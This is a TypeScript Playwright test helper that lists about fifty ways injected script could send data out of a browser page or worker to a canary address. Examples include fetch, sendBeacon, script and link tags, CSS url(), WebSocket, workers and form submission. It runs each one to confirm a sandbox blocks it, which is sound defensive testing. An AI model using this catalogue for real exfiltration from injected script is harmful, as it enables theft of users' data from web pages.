import type { Page } from 'playwright-core';

/**
 * Ways out that someone might try who got text of theirs to run in a page. CANARY is the address that must hear nothing.
 * The last ones change where the page is.
 */
export const waysOut = [
  'fetch(CANARY)',
  'fetch(CANARY, { mode: "no-cors", keepalive: true, method: "POST", body: "x" })',
  'send(new XMLHttpRequest(), "GET", CANARY)',
  'navigator.sendBeacon(CANARY, "x")',
  'new Image().src = CANARY',
  'new Audio(CANARY).load()',
  'put("script", { src: CANARY })',
  'put("script", { src: CANARY, type: "module" })',
  'put("link", { rel: "stylesheet", href: CANARY })',
  'put("link", { rel: "prefetch", href: CANARY })',
  'put("link", { rel: "preload", as: "fetch", href: CANARY })',
  'put("link", { rel: "preload", as: "image", href: CANARY })',
  'put("link", { rel: "modulepreload", href: CANARY })',
  'put("link", { rel: "icon", href: CANARY })',
  'put("link", { rel: "manifest", href: CANARY })',
  'put("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [CANARY] }] }) })',
  'new WebSocket(CANARY.replace("http", "ws"))',
  'new EventSource(CANARY)',
  'new WebTransport(CANARY.replace("http", "https"))',
  'put("a", { href: "#x", ping: CANARY }).click()',
  'put("iframe", { src: CANARY })',
  'put("iframe", { srcdoc: "<img src=" + CANARY + ">" })',
  'put("object", { data: CANARY })',
  'put("embed", { src: CANARY })',
  'put("video", { poster: CANARY })',
  'put("video", { src: CANARY })',
  'put("img", { srcset: CANARY + " 2x" })',
  'put("table", { background: CANARY })',
  'put("style", { textContent: "@import url(" + CANARY + ")" })',
  'put("style", { textContent: "html { background: url(" + CANARY + ") }" })',
  'put("p", { style: "background: url(" + CANARY + ")", textContent: "x" })',
  'new FontFace("x", "url(" + CANARY + ")").load()',
  'new Worker(CANARY)',
  'new SharedWorker(CANARY)',
  'navigator.serviceWorker.register(CANARY)',
  'import(CANARY)',
  'CSS.paintWorklet?.addModule(CANARY)',
  'new AudioContext().audioWorklet.addModule(CANARY)',
  'put("base", { href: CANARY + "/" }) && put("img", { src: "x" })',
  'put("form", { action: CANARY, method: "post" }).submit()',
] as const;

/** The same in a worker. */
export const waysOutOfWorkers = [
  'fetch(CANARY)',
  'send(new XMLHttpRequest(), "GET", CANARY)',
  'new WebSocket(CANARY.replace("http", "ws"))',
  'new EventSource(CANARY)',
  'new WebTransport(CANARY.replace("http", "https"))',
  'importScripts(CANARY)',
  'import(CANARY)',
  'new Worker(CANARY)',
  'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(CANARY) + ")"])))',
  'new FontFace("x", "url(" + CANARY + ")").load()',
] as const;

/**
 * Those that no page gets out by, ours or not: a worker must be of the same origin, and a browser without a window
 * fetches no icon and no manifest. That nothing is heard of them proves nothing.
 */
export const closedAnyway: readonly string[] = [
  'put("link", { rel: "icon", href: CANARY })',
  'put("link", { rel: "manifest", href: CANARY })',
  'new Worker(CANARY)',
  'new SharedWorker(CANARY)',
  'navigator.serviceWorker.register(CANARY)',
];

/** The ways of a list of which nothing was heard, with what a canary heard of their being tried. */
export function waysUnheard(ways: readonly string[], heard: readonly string[]): string[] {
  const isHeard = (way: string, i: number): boolean =>
    heard.some((line) =>
      way.includes('WebTransport') ? line === 'datagram' : new RegExp(`/way-${i}(/|$)`).test(line),
    );
  return ways.filter((way, i) => !isHeard(way, i));
}

/** Tries every way out in a page, one after the other, each at an address of its own, and gives them time to come about. */
export async function tryWaysOut(page: Page, url: string): Promise<void> {
  for (const [i, way] of waysOut.entries()) await tryWayOut(page, way, `${url}way-${i}`);
  await page.waitForTimeout(500);
}

async function tryWayOut(page: Page, way: string, url: string): Promise<void> {
  await page
    .evaluate(
      async ([code, address]) => {
        const put = (name: string, properties: Record<string, string>): HTMLElement => {
          const element = Object.assign(document.createElement(name), properties);
          for (const [key, value] of Object.entries(properties))
            if (key !== 'textContent') element.setAttribute(key, value);
          return document.body.appendChild(element);
        };
        const send = (request: XMLHttpRequest, method: string, to: string): void => {
          request.open(method, to);
          request.send();
        };
        const run = new Function('CANARY', 'put', 'send', `return (${code})`) as (
          ...given: unknown[]
        ) => unknown;
        const result = run(address, put, send);
        await Promise.race([result, new Promise((done) => setTimeout(done, 30))]);
      },
      [way, url] as const,
    )
    .catch(() => {}); // a refused attempt may throw
}

/** Tries every way out of a worker that a page makes from a blob. */
export async function tryWaysOutOfWorkers(page: Page, url: string): Promise<void> {
  for (const [i, way] of waysOutOfWorkers.entries())
    await page.evaluate(
      async ([code, address]) => {
        const text = `const CANARY = ${JSON.stringify(address)};
          const send = (request, method, to) => { request.open(method, to); request.send(); };
          (async () => ${code})().catch(() => {}).finally(() => setTimeout(() => postMessage(0), 100));`;
        const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
        await new Promise((done) => {
          worker.addEventListener('message', done);
          worker.addEventListener('error', done);
        });
      },
      [way, `${url}way-${i}`] as const,
    );
}
